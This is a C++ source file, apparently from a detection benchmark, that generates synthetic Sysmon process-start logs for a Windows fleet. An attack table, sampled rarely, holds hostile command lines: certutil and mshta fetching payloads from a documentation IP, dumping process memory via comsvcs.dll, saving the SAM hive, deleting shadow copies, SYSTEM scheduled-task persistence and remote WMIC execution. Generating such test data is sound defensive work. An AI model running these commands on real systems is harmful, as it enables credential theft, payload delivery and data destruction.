#include "windows_estate.h"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <span>
#include <string_view>
#include <vector>

#include "replay/random.h"

namespace sightline::bench {
namespace {

using replay::Random;

// A program's start. In `arguments` and `parent_arguments` stand for what differs: {n} a number, {h} 8 hexadecimal
// digits, {g} a GUID, {u} a user, {w} a word, {e} 60 to 300 characters of base64.
struct Start {
  int weight;
  std::string_view image;
  std::string_view arguments;
  std::string_view parent;
  std::string_view parent_arguments;
  bool system = false;  // by the machine's account
};

constexpr std::string_view kServices = R"(C:\Windows\System32\services.exe)";
constexpr std::string_view kSvchost = R"(C:\Windows\System32\svchost.exe)";
constexpr std::string_view kExplorer = R"(C:\Windows\explorer.exe)";
constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kPowershell = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
constexpr std::string_view kChrome = R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
constexpr std::string_view kEdge = R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)";
constexpr std::string_view kTeams =
    R"(C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe)";
constexpr std::string_view kCode = R"(C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe)";
constexpr std::string_view kGit = R"(C:\Program Files\Git\cmd\git.exe)";
constexpr std::string_view kManagement = R"(C:\Windows\CCM\CcmExec.exe)";
constexpr std::string_view kMonitoring = R"(C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe)";
constexpr std::string_view kTaskhost = R"(C:\Windows\System32\taskhostw.exe)";
constexpr std::string_view kConhost = R"(C:\Windows\System32\conhost.exe)";
constexpr std::string_view kWmiPrvSe = R"(C:\Windows\System32\wbem\WmiPrvSE.exe)";

constexpr auto kEveryday = std::to_array<Start>({
    {90, kConhost, "0xffffffff -ForceV1", kCmd, R"( /d /c "C:\ProgramData\{w}\collect.cmd" {n})", true},
    {40, kConhost, "0x4", kPowershell, R"( -NoProfile -File C:\Scripts\{w}.ps1 -Id {n})"},
    {70, kSvchost, "-k netsvcs -p -s {w}", kServices, "", true},
    {40, kSvchost, "-k LocalServiceNetworkRestricted -p -s {w}", kServices, "", true},
    {25, kSvchost, "-k UnistackSvcGroup -s {w}_{h}", kServices, "", true},
    {60, R"(C:\Windows\System32\backgroundTaskHost.exe)", "-ServerName:App.AppX{h}{h}{h}.mca", kSvchost,
     " -k DcomLaunch -p"},
    {60, R"(C:\Windows\System32\RuntimeBroker.exe)", "-Embedding", kSvchost, " -k DcomLaunch -p"},
    {50, R"(C:\Windows\System32\dllhost.exe)", "/Processid:{{g}}", kSvchost, " -k DcomLaunch -p"},
    {25, kTaskhost, "", kSvchost, " -k netsvcs -p -s Schedule", true},
    {15, kTaskhost, "-RegisterDevice -SettingChange -Full", kSvchost, " -k netsvcs -p -s Schedule", true},
    {40, R"(C:\Windows\System32\SearchProtocolHost.exe)",
     "Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft"
     "\\Windows Search\"",
     R"(C:\Windows\System32\SearchIndexer.exe)", " /Embedding", true},
    {40, R"(C:\Windows\System32\SearchFilterHost.exe)", "812 816 824 8192 820 {n}",
     R"(C:\Windows\System32\SearchIndexer.exe)", " /Embedding", true},
    {20, kWmiPrvSe, "-secured -Embedding", kSvchost, " -k DcomLaunch -p", true},
    {12, R"(C:\Windows\System32\smartscreen.exe)", "-Embedding", kSvchost, " -k DcomLaunch -p"},
    {12, R"(C:\Windows\System32\MoUsoCoreWorker.exe)", "-Embedding", kSvchost, " -k DcomLaunch -p", true},
    {12, R"(C:\Windows\System32\sppsvc.exe)", "", kServices, "", true},
    {10, R"(C:\Windows\System32\audiodg.exe)", "0x{h} 0x{h}", kSvchost, " -k LocalServiceNetworkRestricted -p", true},
    {8, R"(C:\Windows\servicing\TrustedInstaller.exe)", "", kServices, "", true},
    {8,
     R"(C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.{n}_none_{h}{h}\TiWorker.exe)",
     "-Embedding", kSvchost, " -k DcomLaunch -p", true},
    {10, R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe)",
     "SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke -HttpDownload", kSvchost, " -k netsvcs -p -s Schedule",
     true},
    {8, R"(C:\Windows\System32\CompatTelRunner.exe)", "-m:appraiser.dll -f:DoScheduledTelemetryRun -cv:{h}{h}.1",
     kSvchost, " -k netsvcs -p -s Schedule", true},
    {8, R"(C:\Windows\System32\wevtutil.exe)", "gl {w}/Operational", kMonitoring, " -c C:\\ProgramData\\zabbix.conf",
     true},
    {6, R"(C:\Windows\System32\rundll32.exe)",
     "C:\\WINDOWS\\System32\\shell32.dll,SHCreateLocalServerRunDll {{g}} -Embedding", kSvchost, " -k DcomLaunch -p"},
    {4, R"(C:\Windows\System32\rundll32.exe)", "Windows.Storage.ApplicationData.dll,CleanupTemporaryState", kSvchost,
     " -k netsvcs -p -s Schedule"},
    {90, kChrome,
     "--type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 "
     "--num-raster-threads=4 --renderer-client-id={n} --time-ticks-at-unix-epoch=-{n}{n} --launch-time-ticks={n}{n} "
     "--field-trial-handle={n},i,{n}{n},{n}{n},262144 --variations-seed-version --mojo-platform-channel-handle={n} "
     "/prefetch:1",
     kChrome, ""},
    {20, kChrome,
     "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US "
     "--service-sandbox-type=none --field-trial-handle={n},i,{n}{n} /prefetch:3",
     kChrome, ""},
    {60, kEdge,
     "--type=renderer --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id={n} "
     "--field-trial-handle={n},i,{n}{n},262144 --variations-seed-version --mojo-platform-channel-handle={n} "
     "/prefetch:1",
     kEdge, " --no-startup-window --win-session-start"},
    {14, kEdge, R"(--single-argument https://intranet.example.com/{w}/{h}?id={n})", kExplorer, ""},
    {40, R"(C:\Program Files (x86)\Microsoft\EdgeWebView\Application\130.0.2849.68\msedgewebview2.exe)",
     R"(--type=renderer --webview-exe-name=ms-teams.exe --user-data-dir="C:\Users\{u}\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView" --renderer-client-id={n} --field-trial-handle={n} /prefetch:1)",
     kTeams, " ms-teams:system-initiated"},
    {12, kTeams, "ms-teams:system-initiated", kSvchost, " -k DcomLaunch -p"},
    {14, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "", kExplorer, ""},
    {14, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
     R"(/n "C:\Users\{u}\Documents\{w}\{w} {n}.docx" /o "")", kExplorer, ""},
    {14, R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)",
     R"("C:\Users\{u}\OneDrive - Example\{w}\{w}_{n}.xlsx")", kExplorer, ""},
    {8, R"(C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\OFFICE16\ai.exe)",
     R"(CacheOpenClose 0000{h})", R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
     R"( /n "C:\Users\{u}\Documents\{w}.docx")"},
    {6, R"(C:\Program Files\Microsoft Office\root\Office16\SDXHelper.exe)", "-Embedding", kSvchost,
     " -k DcomLaunch -p"},
    {10, R"(C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe)", R"("C:\Users\{u}\Downloads\{w}-{n}.pdf")",
     kExplorer, ""},
    {8, R"(C:\Program Files\Adobe\Acrobat DC\Acrobat\acrocef_1\AcroCEF.exe)",
     "--type=renderer --backgroundcolor=16777215 --first-renderer-process --renderer-client-id={n}",
     R"(C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe)", R"( "C:\Users\{u}\Downloads\{w}-{n}.pdf")"},
    {10, R"(C:\Program Files (x86)\Google\GoogleUpdater\131.0.6776.0\updater.exe)", "--wake --system", kSvchost,
     " -k netsvcs -p -s Schedule", true},
    {10, R"(C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe)", "/ua /installsource scheduler",
     kSvchost, " -k netsvcs -p -s Schedule", true},
    {8, R"(C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe)", "/reporting", kSvchost,
     " -k netsvcs -p -s Schedule"},
    {8, R"(C:\Windows\System32\notepad.exe)", R"("C:\Users\{u}\Desktop\{w} {n}.txt")", kExplorer, ""},
    {4, R"(C:\Windows\System32\mmc.exe)", R"("C:\Windows\System32\eventvwr.msc" /s)", kExplorer, ""},
    {4, R"(C:\Windows\System32\mstsc.exe)", R"("C:\Users\{u}\Desktop\srv-{n}.rdp")", kExplorer, ""},
    {3, R"(C:\Windows\System32\consent.exe)", "{n} 424 0000{h}", kSvchost, " -k netsvcs -p -s Appinfo", true},
    {6, kExplorer, "/factory,{{g}} -Embedding", kSvchost, " -k DcomLaunch -p"},
    {24, kCmd, R"(/d /c "C:\ProgramData\{w}\collect.cmd" {n})", kMonitoring, R"( -c C:\ProgramData\zabbix.conf)", true},
    {10, kCmd, R"(/c "C:\Windows\CCM\Temp\{g}.cmd")", kManagement, "", true},
    {8, kCmd, R"(/d /s /c "npm run build -- --project {w}")", R"(C:\Program Files\nodejs\node.exe)",
     R"( C:\agent\_work\{n}\s\node_modules\.bin\gulp {w})"},
    {16, kPowershell,
     R"(-NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass "& 'C:\Windows\CCM\SystemTemp\{g}.ps1'")",
     kManagement, "", true},
    {14, kPowershell, R"(-NoProfile -File C:\Scripts\{w}.ps1 -Id {n})", kSvchost, " -k netsvcs -p -s Schedule", true},
    {4, kPowershell, "", kExplorer, ""},
    {6, R"(C:\Program Files\PowerShell\7\pwsh.exe)",
     R"(-NoProfile -ExecutionPolicy Bypass -Command "Import-Module 'c:\Users\{u}\.vscode\extensions\ms-vscode.powershell-2024.2.2\modules\PowerShellEditorServices\PowerShellEditorServices.psd1'; Start-EditorServices -HostName '{w}' -LogPath 'c:\logs\{n}'")",
     kCode, ""},
    {6, R"(C:\Windows\System32\reg.exe)", R"(query "HKLM\SOFTWARE\{w}\{n}" /v Version)", kCmd,
     R"( /d /c "C:\ProgramData\{w}\collect.cmd" {n})", true},
    {5, R"(C:\Windows\System32\sc.exe)", "query {w}", kCmd, R"( /d /c "C:\ProgramData\{w}\collect.cmd" {n})", true},
    {4, R"(C:\Windows\System32\schtasks.exe)", R"(/query /tn "\{w}\{w}" /fo csv)", kCmd,
     R"( /d /c "C:\ProgramData\{w}\collect.cmd" {n})", true},
    {4, R"(C:\Windows\System32\net.exe)", R"(use H: \\files-{n}\home$ /persistent:no)", kCmd,
     R"( /c \\example.com\netlogon\logon.cmd)"},
    {3, R"(C:\Windows\System32\ipconfig.exe)", "/all", kCmd, R"( /d /c "C:\ProgramData\{w}\collect.cmd" {n})", true},
    {3, R"(C:\Windows\System32\netsh.exe)", "interface ipv4 show config", kMonitoring, "", true},
    {5, R"(C:\Windows\System32\wbem\WMIC.exe)", "path Win32_PerfFormattedData_{w} get /format:csv", kMonitoring, "",
     true},
    {4, R"(C:\Windows\System32\gpupdate.exe)", "/target:computer", kManagement, "", true},
    {6, R"(C:\Windows\System32\msiexec.exe)",
     R"(/i "C:\Windows\ccmcache\{n}\{w}.msi" /qn /l*v C:\Windows\Temp\{w}.log)", kManagement, "", true},
    {6, R"(C:\Windows\System32\msiexec.exe)", "/V", kServices, "", true},
    {20, kGit, "-c core.quotepath=false -c color.ui=false status -z -uall", kCode, ""},
    {14, kGit, "fetch --no-tags origin +refs/heads/{w}:refs/remotes/origin/{w}-{n}", kCode, ""},
    {12, R"(C:\Program Files\Git\mingw64\bin\git.exe)", "rev-parse --abbrev-ref {h}{h}", kGit, " status -z -uall"},
    {10, kCode,
     R"(--type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --field-trial-handle={n},i,{n})", kCode,
     ""},
    {10, R"(C:\Program Files\nodejs\node.exe)", R"(C:\agent\_work\{n}\s\node_modules\.bin\webpack --config {w}.js)",
     kCmd, R"( /d /s /c "npm run build -- --project {w}")"},
    {8, R"(C:\Users\{u}\AppData\Local\Programs\Python\Python312\python.exe)", R"(-m pytest tests\{w}_{n}.py -q)", kCode,
     ""},
    {24,
     R"(C:\Program Files\Microsoft Visual Studio\2022\Professional\VC\Tools\MSVC\14.38.33130\bin\Hostx64\x64\cl.exe)",
     R"(/nologo /MP /O2 /W4 /IC:\agent\_work\{n}\s\include /c {w}_{w}.cpp /Fo{w}_{n}.obj)",
     R"(C:\Program Files\Microsoft Visual Studio\2022\Professional\MSBuild\Current\Bin\MSBuild.exe)",
     R"( C:\agent\_work\{n}\s\{w}.sln /m /p:Configuration=Release)"},
    {6, R"(C:\Program Files\dotnet\dotnet.exe)",
     R"(test C:\agent\_work\{n}\s\{w}.Tests.csproj --no-build --logger trx)", R"(C:\agent\bin\Agent.Worker.exe)",
     " spawnclient {n} {n}"},
    {6, R"(C:\Program Files\Docker\Docker\resources\bin\docker.exe)", "exec {w}-{n} cat /proc/loadavg", kCode, ""},
    {4, R"(C:\Program Files\7-Zip\7zG.exe)", R"(x -o"C:\Users\{u}\Downloads\{w}" -slp- -an -ai#7zMap{n}:{n})",
     kExplorer, ""},
    {4, R"(C:\Program Files (x86)\Common Files\{w}\{w}Service.exe)", "--instance {n}", kServices, "", true},
    {8, R"(C:\Program Files\{w} {w}\{w}.exe)", "--job {n} --config {w}.json", kSvchost, " -k netsvcs -p -s Schedule"},
});

constexpr auto kAttacks = std::to_array<Start>({
    {3, kPowershell, "-nop -w hidden -enc {e}", kCmd, ""},
    {2, R"(C:\Windows\System32\whoami.exe)", "/all", kCmd, ""},
    {2, R"(C:\Windows\System32\net.exe)", R"(group "Domain Admins" /domain)", kCmd, ""},
    {2, R"(C:\Windows\System32\nltest.exe)", "/domain_trusts /all_trusts", kCmd, ""},
    {1, R"(C:\Windows\System32\certutil.exe)",
     R"(-urlcache -split -f http://203.0.113.{n}/{w}.exe C:\Users\Public\{w}.exe)", kCmd, ""},
    {1, R"(C:\Windows\System32\rundll32.exe)",
     R"(C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Windows\Temp\{w}.dmp full)", kPowershell, ""},
    {1, R"(C:\Windows\System32\reg.exe)", R"(save HKLM\SAM C:\Windows\Temp\{w}.hiv)", kCmd, ""},
    {1, R"(C:\Windows\System32\vssadmin.exe)", "delete shadows /all /quiet", kCmd, ""},
    {1, R"(C:\Windows\System32\mshta.exe)", "http://203.0.113.{n}/{w}.hta",
     R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", ""},
    {1, R"(C:\Windows\System32\schtasks.exe)",
     R"(/create /sc minute /mo 5 /tn {w} /tr C:\Users\Public\{w}.exe /ru SYSTEM)", kCmd, ""},
    {1, R"(C:\Windows\System32\wbem\WMIC.exe)",
     R"(/node:10.0.0.{n} process call create "cmd /c C:\Users\Public\{w}.bat")", kPowershell, ""},
    {1, R"(C:\Users\Public\{w}.exe)", "", R"(C:\Windows\System32\wscript.exe)", R"( C:\Users\{u}\Downloads\{w}.js)"},
});

constexpr std::array<std::string_view, 16> kShuffledPrograms{
    kSvchost,
    kConhost,
    R"(C:\Windows\System32\backgroundTaskHost.exe)",
    R"(C:\Windows\System32\RuntimeBroker.exe)",
    R"(C:\Windows\System32\dllhost.exe)",
    kTaskhost,
    kCmd,
    kPowershell,
    kChrome,
    R"(C:\Windows\System32\reg.exe)",
    R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)",
    kWmiPrvSe,
    kGit,
    R"(C:\Windows\System32\schtasks.exe)",
    R"(C:\Windows\System32\msiexec.exe)",
    R"(C:\Users\{u}\AppData\Local\Programs\Python\python.exe)"};
constexpr std::array<std::string_view, 8> kShuffledArguments{"-k netsvcs -p -s Schedule --id={n}",
                                                             R"(/c copy C:\Temp\{n}.log D:\backup)",
                                                             "--type=renderer --field-trial-handle={n}",
                                                             R"(-NoProfile -File C:\Scripts\inventory{n}.ps1)",
                                                             R"(query HKLM\SOFTWARE\Vendor\{n})",
                                                             "fetch origin refs/heads/{n}",
                                                             "/Processid:{{n}}",
                                                             "-Embedding {n}"};

constexpr std::array<std::string_view, 40> kWords{
    "report",   "inventory", "Schedule", "BITS",      "wuauserv", "billing", "Contoso",  "main",
    "release",  "parser",    "Gateway",  "client",    "service",  "invoice", "planning", "budget",
    "Dnscache", "Spooler",   "backup",   "metrics",   "frontend", "orders",  "payroll",  "network",
    "storage",  "Fabrikam",  "feature",  "login",     "search",   "cache",   "Vendor",   "printer",
    "catalog",  "shipping",  "tracker",  "Northwind", "meeting",  "photo",   "draft",    "summary"};

class Writer {
 public:
  explicit Writer(std::uint64_t seed) : random_(seed) {
    for (const Start& start : kEveryday) weights_ += start.weight;
  }

  void everyday(std::string& out) {
    user_ = fmt::format("user{}", random_.low_below(400));
    write(random_.chance(1.0 / 250) ? pick(kAttacks, 17) : pick(kEveryday, weights_), out);
  }

  void shuffled(std::string& out) {
    user_ = fmt::format("user{}", random_.below(40));
    const auto program = [&] { return kShuffledPrograms[random_.below(kShuffledPrograms.size())]; };
    write({1, program(), kShuffledArguments[random_.below(kShuffledArguments.size())], program(), " -x {n}"}, out);
  }

 private:
  const Start& pick(std::span<const Start> starts, int weights) {
    int left = static_cast<int>(random_.below(static_cast<std::uint64_t>(weights)));
    for (const Start& start : starts) {
      left -= start.weight;
      if (left < 0) return start;
    }
    return starts.back();
  }

  std::string filled(std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
      const bool stands_for_more = text[i] == '{' && i + 2 < text.size() && text[i + 2] == '}';
      if (stands_for_more) {
        fill(text[i + 1], out);
        i += 2;
      } else {
        out += text[i];
      }
    }
    return out;
  }

  void fill(char kind, std::string& out) {
    constexpr std::string_view kBase64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    if (kind == 'n') out += std::to_string(random_.below(100'000));
    if (kind == 'h') random_.append_hex(out, 8);
    if (kind == 'g') random_.append_uuid(out);
    if (kind == 'u') out += user_;
    if (kind == 'w') out += kWords[random_.low_below(kWords.size())];
    if (kind == 'e') random_.append(out, kBase64, 60 + random_.below(240));
  }

  static std::string escaped(std::string_view text) {
    std::string out;
    for (const char c : text) {
      if (c == '\\' || c == '"') out += '\\';
      out += c;
    }
    return out;
  }

  void write(const Start& start, std::string& out) {
    const std::string image = filled(start.image);
    const std::string parent = filled(start.parent);
    const std::string name = image.substr(image.rfind('\\') + 1);
    const std::string account = start.system ? R"(NT AUTHORITY\SYSTEM)" : R"(EXAMPLE\)" + user_;
    const std::string hash = Random(std::hash<std::string>()(image)).hex(96);
    out += fmt::format(
        R"({{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Sysmon",)"
        R"("Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,)"
        R"("Keywords":"0x8000000000000000",)"
        R"("TimeCreated":{{"#attributes":{{"SystemTime":"2025-10-25T13:21:33.116889Z"}}}},"EventRecordID":{},)"
        R"("Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc-{}.example.com"}},"EventData":{{)"
        R"("RuleName":"-","UtcTime":"2025-10-25 13:21:33.111","ProcessGuid":"{}","ProcessId":{},"Image":"{}",)"
        R"("FileVersion":"10.0.22621.{}","Description":"{}","Product":"Microsoft Windows Operating System",)"
        R"("Company":"Microsoft Corporation","OriginalFileName":"{}","CommandLine":"\"{}\" {}",)"
        R"("CurrentDirectory":"{}","User":"{}","LogonGuid":"{}","LogonId":"0x{:x}","TerminalSessionId":{},)"
        R"("IntegrityLevel":"{}","Hashes":"MD5={},SHA256={}","ParentProcessGuid":"{}","ParentProcessId":{},)"
        R"("ParentImage":"{}","ParentCommandLine":"\"{}\"{}","ParentUser":"{}"}}}}}})"
        "\n",
        ++record_, random_.low_below(300), random_.uuid(), random_.below(60'000), escaped(image), random_.below(40),
        escaped(name.substr(0, name.rfind('.'))), escaped(name), escaped(image), escaped(filled(start.arguments)),
        escaped(start.system ? R"(C:\Windows\system32\)" : "C:\\Users\\" + user_ + "\\"), escaped(account),
        random_.uuid(), random_.below(1 << 24), start.system ? 0 : 1, start.system ? "System" : "Medium",
        std::string_view(hash).substr(0, 32), std::string_view(hash).substr(32), random_.uuid(), random_.below(60'000),
        escaped(parent), escaped(parent), escaped(filled(start.parent_arguments)), escaped(account));
  }

  Random random_;
  int weights_ = 0;
  std::string user_;
  std::uint64_t record_ = 0;
};

}  // namespace

std::string windows_process_starts(Estate estate, std::size_t count, std::uint64_t seed) {
  Writer writer(seed);
  std::string out;
  for (std::size_t i = 0; i < count; ++i) estate == Estate::everyday ? writer.everyday(out) : writer.shuffled(out);
  return out;
}

}  // namespace sightline::bench
